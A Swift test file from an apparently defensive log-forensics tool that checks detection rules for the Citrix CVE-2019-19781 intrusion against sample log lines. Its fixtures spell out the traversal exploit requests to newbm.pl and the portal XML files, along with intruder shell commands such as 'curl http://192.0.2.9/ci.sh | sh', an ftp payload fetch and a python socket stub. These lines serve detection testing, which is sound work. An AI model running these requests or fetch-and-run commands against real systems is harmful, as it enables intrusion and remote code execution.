// SPDX-License-Identifier: EUPL-1.2
// SPDX-FileCopyrightText: Dijkwacht contributors

import Casework
import Foundation
import LogRecords
import Testing

/// The rules of the case of January 2020 (facts: `Cases/citrix-2019-19781/README.md`).
struct CitrixRulesTests {
    private static func line(
        _ request: String,
        _ status: String,
        client: String = "192.0.2.1",
        at time: String = "13/Jan/2020:08:28:31"
    ) -> String {
        "\(client) - - [\(time) +0000] \"\(request) HTTP/1.1\" \(status) 48 \"-\" \"curl/7.58.0\"\n"
    }

    @Test(arguments: [
        (request: "GET /vpn/../vpns/portal/abc.xml", status: "200", verdict: AbuseVerdict.compromise),
        (request: "GET /vpn/../vpns/portal/abc.xml?x=y", status: "304", verdict: .compromise),
        (request: "PUT /vpn/../vpns/portal/a[%25x%25].xml", status: "200", verdict: .compromise),
        (request: "GET /vpn/..%2fvp%6Es/portal/abc.%78%6D%6c", status: "206", verdict: .compromise),
        (request: "GET /vpn/%252e%252e/vpns/portal/abc.xml", status: "200", verdict: .compromise),
        (request: "POST /vpns/portal/scripts/newbm.pl", status: "304", verdict: .compromise),
        (request: "POST /vpns/portal/scripts/newbm.pl", status: "200", verdict: .wasVulnerable),
        (request: "HEAD /vpns/portal/scripts/newbm.pl", status: "304", verdict: .wasVulnerable),
        (request: "GET /vpn/../vpns/cfg/smb.conf", status: "200", verdict: .wasVulnerable),
        (request: "GET /vpn/../vpns/cfg/smb.conf", status: "304", verdict: .wasVulnerable),
        (request: "GET /vpn/../vpns/", status: "200", verdict: .wasVulnerable),
        (request: "GET /vpn/../vpns/", status: "403", verdict: .attempt),
        (request: "GET /vpn/../vpns/portal/abc.xml", status: "404", verdict: .attempt),
        (request: "GET /vpn/../vpns/portal/abc.xml", status: "500", verdict: .attempt),
        (request: "POST /vpns/portal/scripts/newbm.pl", status: "403", verdict: .attempt),
        (request: "GET /vpn/..%2f%76p%6Es/cfg/smb.conf", status: "302", verdict: .attempt),
        (request: "GET /VPN/../VPNS/CFG/SMB.CONF", status: "404", verdict: .attempt),
    ])
    func tellsAttemptVulnerabilityAndCompromiseApart(
        row: (request: String, status: String, verdict: AbuseVerdict)
    ) throws {
        let hits = try CaseRules.citrix.get().hits(
            Array(Self.line(row.request, row.status).utf8),
            file: "httpaccess.log",
            format: .netscalerAccess
        )
        #expect(hits.map(\.verdict) == [row.verdict], "\(hits)")
    }

    @Test(arguments: [
        "GET /vpn/index.html", "GET /vpn/../vpn/index.html", "GET /portal/scripts/menu.js",
        "GET /docs/../docs/index.html",
        "GET /vpns.xml", "GET /vpns/portal/homepage.html", "GET /search?q=/vpns/portal/a.xml", "GET /a.xml?next=/vpns/",
        "GET /vpns/portal/bookmark.html", "GET /download?file=vpns%2Fa.pl", "GET /xvpns/portal/a.xml",
        "GET /etc/designs/site.css", "GET /vpns/style.css",
    ])
    func leavesOtherRequestsAlone(request: String) throws {
        let rules = try CaseRules.citrix.get()
        for status in ["200", "304", "404"] {
            #expect(try rules.verdicts(Self.line(request, status), format: .netscalerAccess) == [:])
        }
    }

    @Test(arguments: [
        (
            name: "written, then run",
            lines: [
                line("POST /vpn/../vpns/portal/scripts/newbm.pl", "200"),
                line("GET /vpn/../vpns/portal/x.xml", "200", at: "13/Jan/2020:08:30:00"),
            ],
            seen: ["Citrix CVE-2019-19781 Written Then Run"]
        ),
        (
            name: "run, then written",
            lines: [
                line("GET /vpn/../vpns/portal/x.xml", "200"),
                line("POST /vpn/../vpns/portal/scripts/newbm.pl", "200", at: "13/Jan/2020:08:30:00"),
            ],
            seen: []
        ),
        (
            name: "two clients",
            lines: [
                line("POST /vpn/../vpns/portal/scripts/newbm.pl", "200"),
                line("GET /vpn/../vpns/portal/x.xml", "200", client: "192.0.2.2", at: "13/Jan/2020:08:30:00"),
            ],
            seen: []
        ),
        (
            name: "too late",
            lines: [
                line("POST /vpn/../vpns/portal/scripts/newbm.pl", "200"),
                line("GET /vpn/../vpns/portal/x.xml", "200", at: "13/Jan/2020:08:39:00"),
            ],
            seen: []
        ),
        (
            name: "not answered",
            lines: [
                line("POST /vpn/../vpns/portal/scripts/newbm.pl", "200"),
                line("GET /vpn/../vpns/portal/x.xml", "404", at: "13/Jan/2020:08:30:00"),
            ],
            seen: []
        ),
        (
            name: "uploaded, then the same run",
            lines: [
                line("PUT /vpn/../vpns/portal/x.xml", "403"),
                line("GET /vpn/../vpns/portal/x.xml", "200", at: "13/Jan/2020:08:30:00"),
            ],
            seen: ["Citrix CVE-2019-19781 Uploaded Then Run"]
        ),
        (
            name: "uploaded, then another run",
            lines: [
                line("PUT /vpn/../vpns/portal/x.xml", "403"),
                line("GET /vpn/../vpns/portal/y.xml", "200", at: "13/Jan/2020:08:30:00"),
            ],
            seen: []
        ),
    ])
    func seesTheTwoStepsInTheirOrder(row: (name: String, lines: [String], seen: [String])) throws {
        let hits = try CaseRules.citrix.get().hits(
            Array(row.lines.joined().utf8),
            file: "httpaccess.log",
            format: .netscalerAccess
        )
        #expect(hits.filter { $0.line == 0 }.map(\.rule) == row.seen, "\(row.name)")
    }

    @Test(arguments: [
        (command: "pkill -9 netscalerd;rm /var/tmp/netscalerd", isSeen: true),
        (command: "curl http://192.0.2.9/ci.sh | sh", isSeen: true),
        (command: "/usr/bin/ftp -o /tmp/bsd ftp://192.0.2.9/bsd", isSeen: true),
        (command: "python -c 'import socket,subprocess,os;s=socket.socket()'", isSeen: true),
        (command: "curl -k https://95.179.163.186/x", isSeen: true),
        (command: "bash ./ioc-scanner-CVE-2019-19781-v1.4.sh", isSeen: false),
        (command: "grep -r 95.179.163.186 /var/log", isSeen: false),
        (command: "zgrep /tmp/.init /var/log/bash.log.3.gz", isSeen: false),
        (command: "find / -name netscalerd", isSeen: false),
        (command: "ls -la /var/nstmp/.nscache", isSeen: false),
        (command: "cat /etc/passwd", isSeen: false),
        (command: "./build.sh", isSeen: false),
        (command: "sh /root/abcd.sh", isSeen: false),
        (command: "python upgrade.py", isSeen: false),
        (command: "compgen -G \"/var/log/bash.log*\"", isSeen: false),
        (command: "dijkwacht hunt citrix-2019-19781 --root /", isSeen: false),
        (command: "curl -o /tmp/build-13.0.tgz https://downloads.example/build-13.0.tgz", isSeen: false),
    ])
    func knowsTheCommandsOfIntrudersAndOfOthers(row: (command: String, isSeen: Bool)) throws {
        let text =
            "Jan 19 23:39:59 <local7.notice> ns bash[1173]: root on /dev/pts/0 shell_command=\"\(row.command)\"\n"
        let verdicts = try CaseRules.citrix.get().verdicts(text, file: "bash.log", format: .netscalerShell)
        #expect(verdicts == (row.isSeen ? [.compromise: 1] : [:]))
    }

    @Test(arguments: [
        (line: "ns bash[1173]: nobody on (null) shell_command=\"uname -a\"", isSeen: true),
        (line: "ns bash[1173]: nobody on (null) shell_command=\"\"", isSeen: false),
        (line: "ns bash[1173]: root on (null) shell_command=\"echo nobody on shell_command=x\"", isSeen: false),
    ])
    func seesAShellOfNobody(row: (line: String, isSeen: Bool)) throws {
        let text = "Jan 19 23:39:59 <local7.notice> \(row.line)\n"
        let verdicts = try CaseRules.citrix.get().verdicts(text, file: "sh.log", format: .netscalerShell)
        #expect(verdicts == (row.isSeen ? [.compromise: 1] : [:]))
    }

    @Test(arguments: [
        (line: "/usr/sbin/cron[1]: (nobody) CMD (ls /)", isSeen: true),
        (line: "/usr/sbin/cron[1]: (root) CMD (   nsfsyncd -p)", isSeen: false),
        (line: "/usr/sbin/cron[1]: (root) CMD (echo nobody)", isSeen: false),
    ])
    func seesAJobOfNobody(row: (line: String, isSeen: Bool)) throws {
        let text = "Jan 19 23:00:06 <cron.info> ns \(row.line)\n"
        let verdicts = try CaseRules.citrix.get().verdicts(text, file: "cron", format: .cron)
        #expect(verdicts == (row.isSeen ? [.compromise: 1] : [:]))
    }

    @Test(arguments: [
        (line: "curl: (7) Failed to connect to 192.0.2.9 port 80: Operation timed out", isSeen: true),
        (line: "wget: not found", isSeen: true),
        (line: "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current", isSeen: true),
        (line: "cat: /proc/cpuinfo: No such file or directory", isSeen: true),
        (
            line: "[Wed Jan 15 15:09:05 2020] [debug] mod_headers.c(756): headers: ap_headers_output_filter()",
            isSeen: false
        ),
        (line: "[Wed Jan 15 15:09:05 2020] [error] File does not exist: /netscaler/portal/execute.html", isSeen: false),
        (line: "Premature end of script headers: newbm.pl", isSeen: false),
    ])
    func knowsWhatCommandsWriteIntoTheErrorLog(row: (line: String, isSeen: Bool)) throws {
        let verdicts = try CaseRules.citrix.get().verdicts(
            row.line + "\n",
            file: "httperror.log",
            format: .netscalerError
        )
        #expect(verdicts == (row.isSeen ? [.compromise: 1] : [:]))
    }

    @Test func namesOnlyFormatsThatThereAre() throws {
        for place in try CaseRules.citrix.get().traces.logs {
            #expect(LogFormat(rawValue: place.format) != nil, "\(place.place): \(place.format)")
        }
    }
}

@Suite(.enabled(if: Corpus.isThere, "DIJKWACHT_CORPUS names no folder of real documents"))
struct CitrixRulesConformanceTests {
    private func bytes(_ path: String) throws -> [UInt8] {
        Array(try Data(contentsOf: try #require(Corpus.root).appending(path: path)))
    }

    private static func files(_ folder: String) -> [String] {
        guard let root = Corpus.root else { return [] }
        let place = root.appending(path: "logs/netscaler-ioc").appending(path: folder)
        return ((try? FileManager.default.contentsOfDirectory(atPath: place.path)) ?? []).sorted().map {
            "\(folder)/\($0)"
        }
    }

    static let expected: [(file: String, verdict: AbuseVerdict)] =
        files("compromise").map { ($0, .compromise) } + files("scanning").map { ($0, .wasVulnerable) }
        + files("failed").map { ($0, .attempt) }

    @Test(arguments: expected)
    func seesInEachFileWhatItsFolderSays(row: (file: String, verdict: AbuseVerdict)) throws {
        let path = "logs/netscaler-ioc/\(row.file)"
        let hits = try CaseRules.citrix.get().hits(try bytes(path), file: path)
        #expect(hits.contains { $0.verdict == row.verdict }, "\(hits)")
    }

    @Test func knowsTheFilesByTheirNumber() {
        #expect(Self.expected.count == 13)
    }

    @Test func countsTheVendorsSeventeenLinesOnceEach() throws {
        let path = "logs/netscaler-ioc/scanning/successful-scanning__httpaccess.log"
        let hits = try CaseRules.citrix.get().hits(try bytes(path), file: path)
        #expect(hits.count == 17)
        #expect(CaseRules.strongest(hits) == [.compromise: 8, .wasVulnerable: 6, .attempt: 3])
    }

    @Test func seesNothingInTenThousandOrdinaryLines() throws {
        let path = "logs/web/apache-combined-10k.log"
        #expect(try CaseRules.citrix.get().hits(try bytes(path), file: path).isEmpty)
    }
}
